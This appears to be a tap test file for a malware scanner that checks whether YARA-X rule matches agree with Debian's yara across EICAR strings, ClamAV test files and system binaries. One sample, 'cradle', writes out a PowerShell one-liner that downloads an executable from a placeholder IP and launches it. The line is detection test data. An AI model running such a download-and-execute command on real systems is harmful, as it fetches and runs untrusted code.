import tap from 'tap'
import { spawnSync } from 'node:child_process'
import { existsSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { findRuleFiles } from '../../src/scan/rule-files.ts'
import { loadRules } from '../../src/scan/yara-rules.ts'
import { CLAMAV_TESTFILES, PROJECT_RULES, REVERSINGLABS_RULES, eicar, noYara } from './yara-helpers.ts'

/** what was the engine's matcher before YARA-X: Debian's yara, every rule file in its own namespace */
function debianMatches (ruleFiles: string[], dir: string): Map<string, Set<string>> {
  const run = spawnSync('yara', ['-w', '-e', '-a', '60', ...ruleFiles.map((f, i) => `f${i}:${f}`), dir], { encoding: 'utf8', maxBuffer: 64 << 20 })
  if (run.status !== 0) throw new Error(`yara failed: ${run.stderr}`)
  const out = new Map<string, Set<string>>()
  for (const line of run.stdout.split('\n')) {
    const m = /^f(\d+):(\w+) (.+)$/.exec(line)
    if (m === null) continue
    const name = m[3]?.slice(dir.length + 1) ?? ''
    out.set(name, (out.get(name) ?? new Set()).add(`${m[1]}:${m[2]}`))
  }
  return out
}

tap.test('YARA-X matches what Debian yara matched, rule for rule', { skip: noYara }, async t => {
  const samples: Record<string, Buffer> = {
    eicar: Buffer.from(eicar()),
    'eicar-padded': Buffer.from(eicar() + ' '.repeat(60)),
    'eicar-long': Buffer.from(eicar() + ' '.repeat(61)),
    cradle: Buffer.from('powershell -nop -c "(New-Object Net.WebClient).DownloadFile(\'http://203.0.113.9/a.exe\',\'a.exe\'); Start-Process a.exe"\r\n'),
    empty: Buffer.alloc(0),
    zeros: Buffer.alloc(1 << 20)
  }
  if (existsSync(CLAMAV_TESTFILES)) for (const name of readdirSync(CLAMAV_TESTFILES)) samples[`clam-${name}`] = readFileSync(join(CLAMAV_TESTFILES, name))
  for (const name of readdirSync('/usr/bin').toSorted().slice(0, 400)) {
    const path = join('/usr/bin', name)
    const info = statSync(path, { throwIfNoEntry: false })
    if (info?.isFile() === true && info.size > 0 && info.size < 4 << 20) samples[`bin-${name}`] = readFileSync(path)
  }
  const dir = t.testdir(Object.fromEntries(Object.keys(samples).map(k => [k, ''])))
  for (const [name, bytes] of Object.entries(samples)) writeFileSync(join(dir, name), bytes)

  const files = await findRuleFiles([PROJECT_RULES, ...(existsSync(REVERSINGLABS_RULES) ? [REVERSINGLABS_RULES] : [])])
  const rules = loadRules(files)
  t.same(rules.skipped, [], 'every rule file compiles with both')
  const expected = debianMatches(files.map(f => f.path), dir)
  let matched = 0
  for (const [name, bytes] of Object.entries(samples)) {
    const got = rules.scan(bytes).map(m => `${m.fileIndex}:${m.rule}`).toSorted()
    const want = [...expected.get(name) ?? []].toSorted()
    if (want.length > 0) matched++
    t.same(got, want, name)
  }
  t.comment(`${Object.keys(samples).length} samples, ${matched} with matches, ${files.length} rule files`)
  t.ok(matched >= 40, 'the comparison covers detections, not only clean files')
})
